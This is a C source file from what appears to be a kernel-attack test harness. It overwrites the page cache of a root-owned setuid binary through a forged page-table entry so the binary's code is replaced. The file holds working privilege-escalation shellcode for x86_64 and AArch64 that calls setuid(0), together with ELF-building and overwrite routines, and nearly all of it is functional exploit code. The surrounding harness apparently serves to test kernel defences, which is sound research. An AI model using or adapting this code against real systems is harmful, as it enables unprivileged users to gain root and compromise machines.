// SPDX-License-Identifier: GPL-2.0-only
/*
 * A root-owned setuid program that any user may read: its page cache is
 * overwritten through a forged PTE, and the next user who runs it runs the
 * attacker's code as root.
 */
#include <elf.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "setuid.h"

#define PROGRAM		SETUID_PROGRAM

#ifdef __x86_64__
#define MACHINE		EM_X86_64

/* exit(0) */
static const unsigned char innocent[] = {
	0x31, 0xff,				/* xor %edi,%edi */
	0xb8, 0x3c, 0x00, 0x00, 0x00,		/* mov $60,%eax */
	0x0f, 0x05,				/* syscall */
};

/* setuid(0); exit(getuid() + 42) */
static const unsigned char evil[] = {
	0x31, 0xff,				/* xor %edi,%edi */
	0xb8, 0x69, 0x00, 0x00, 0x00,		/* mov $105,%eax */
	0x0f, 0x05,				/* syscall */
	0xb8, 0x66, 0x00, 0x00, 0x00,		/* mov $102,%eax */
	0x0f, 0x05,				/* syscall */
	0x89, 0xc7,				/* mov %eax,%edi */
	0x83, 0xc7, IS_ROOT,			/* add $42,%edi */
	0xb8, 0x3c, 0x00, 0x00, 0x00,		/* mov $60,%eax */
	0x0f, 0x05,				/* syscall */
};
#else
#define MACHINE		EM_AARCH64

/* exit(0) */
static const unsigned int innocent[] = {
	0xd2800000,	/* mov x0,#0 */
	0xd2800ba8,	/* mov x8,#93 */
	0xd4000001,	/* svc #0 */
};

/* setuid(0); exit(getuid() + 42) */
static const unsigned int evil[] = {
	0xd2800000,	/* mov x0,#0 */
	0xd2801248,	/* mov x8,#146 */
	0xd4000001,	/* svc #0 */
	0xd28015c8,	/* mov x8,#174 */
	0xd4000001,	/* svc #0 */
	0x9100a800,	/* add x0,x0,#42 */
	0xd2800ba8,	/* mov x8,#93 */
	0xd4000001,	/* svc #0 */
};
#endif

/* A whole program in one page. */
static void make_program(char *page, const void *code, size_t size)
{
	Elf64_Ehdr *header = (Elf64_Ehdr *)page;
	Elf64_Phdr *segment = (Elf64_Phdr *)(header + 1);
	size_t entry = SETUID_ENTRY - LOAD_ADDRESS;

	memset(page, 0, PAGE_SIZE);
	memcpy(header->e_ident, ELFMAG "\2\1\1", SELFMAG + 3);
	header->e_type = ET_EXEC;
	header->e_machine = MACHINE;
	header->e_version = EV_CURRENT;
	header->e_entry = LOAD_ADDRESS + entry;
	header->e_phoff = sizeof(*header);
	header->e_ehsize = sizeof(*header);
	header->e_phentsize = sizeof(*segment);
	header->e_phnum = 1;
	segment->p_type = PT_LOAD;
	segment->p_flags = PF_R | PF_X;
	segment->p_vaddr = LOAD_ADDRESS;
	segment->p_filesz = PAGE_SIZE;
	segment->p_memsz = PAGE_SIZE;
	segment->p_align = PAGE_SIZE;
	memcpy(page + entry, code, size);
}

static void create_program(const char *name, const void *code, size_t size)
{
	char page[PAGE_SIZE];
	int fd;

	make_program(page, code, size);
	unlink(name);
	fd = open(name, O_WRONLY | O_CREAT | O_EXCL, 0755);
	if (fd < 0 || write(fd, page, PAGE_SIZE) != (ssize_t)PAGE_SIZE || fchmod(fd, 04755))
		_exit(1);
	close(fd);
}

#ifdef __x86_64__
/* write(2, argv[0], strlen(argv[0])); exit(0): as programs say how they are used */
static const unsigned char says_its_name[] = {
	0x48, 0x8b, 0x74, 0x24, 0x08, 0x31, 0xd2, 0x80, 0x3c, 0x16, 0x00, 0x74,
	0x04, 0xff, 0xc2, 0xeb, 0xf6, 0xbf, 0x02, 0x00, 0x00, 0x00, 0xb8, 0x01,
	0x00, 0x00, 0x00, 0x0f, 0x05, 0x31, 0xff, 0xb8, 0x3c, 0x00, 0x00, 0x00,
	0x0f, 0x05,
};

#endif

void setuid_own_create(const char *name)
{
	create_program(name, evil, sizeof(evil));
}

const void *setuid_evil(size_t *size)
{
	*size = sizeof(evil);
	return evil;
}

void setuid_program_create(void)
{
#ifdef __x86_64__
	create_program(SETUID_TALKER, says_its_name, sizeof(says_its_name));
#endif
	create_program(PROGRAM, innocent, sizeof(innocent));
}

int setuid_run(const char *name)
{
	int status;
	pid_t pid = fork();

	if (!pid) {
		execl(name, name, (char *)NULL);
		_exit(127);
	}
	waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

enum outcome setuid_program_judge(int err)
{
	struct stat stat;
	int status = setuid_run(PROGRAM);

	lstat(PROGRAM, &stat);
	if (status == IS_ROOT)
		return won("%s (owner %d, mode %o, never opened for writing) ran the attacker's code for uid=%d: setuid(0), then getuid() gave uid=0",
			   PROGRAM, stat.st_uid, stat.st_mode & 07777, getuid());
	return lost("store gave %d, %s still exits with %d", err, PROGRAM, status);
}

volatile char *setuid_program_map(uint64_t at)
{
	int fd = open(PROGRAM, O_RDONLY);
	volatile char *file = mmap((void *)at, PAGE_SIZE, PROT_READ,
				   MAP_SHARED | (at ? MAP_FIXED_NOREPLACE : 0), fd, 0);

	close(fd);
	return file == MAP_FAILED || file[0] != ELFMAG0 ? NULL : file;
}

enum outcome setuid_program_overwrite(volatile char *file)
{
	make_program((char *)file, evil, sizeof(evil));
	munmap((char *)file, PAGE_SIZE);
	return setuid_program_judge(0);
}

/* Page tables never lie to fork() for long: map, write, unmap, then run. */
static int overwrite_page_cache(uint64_t phys)
{
	struct window window;
	int err;

	if (!window_open(&window, LEVEL_PTE))
		return -1;
	err = window_map(&window, plain_store, NULL, phys);
	if (!err)
		make_program(window.page, evil, sizeof(evil));
	window_close(&window);
	return err;
}

enum outcome setuid_page_cache(void)
{
	volatile char *file = setuid_program_map(0);
	struct slot slot;

	if (!file)
		return broken("cannot map %s", PROGRAM);
	if (kwalk((uint64_t)file, LEAF, 0, &slot))
		return broken("no page-table entry found");
	return setuid_program_judge(overwrite_page_cache(slot.phys));
}
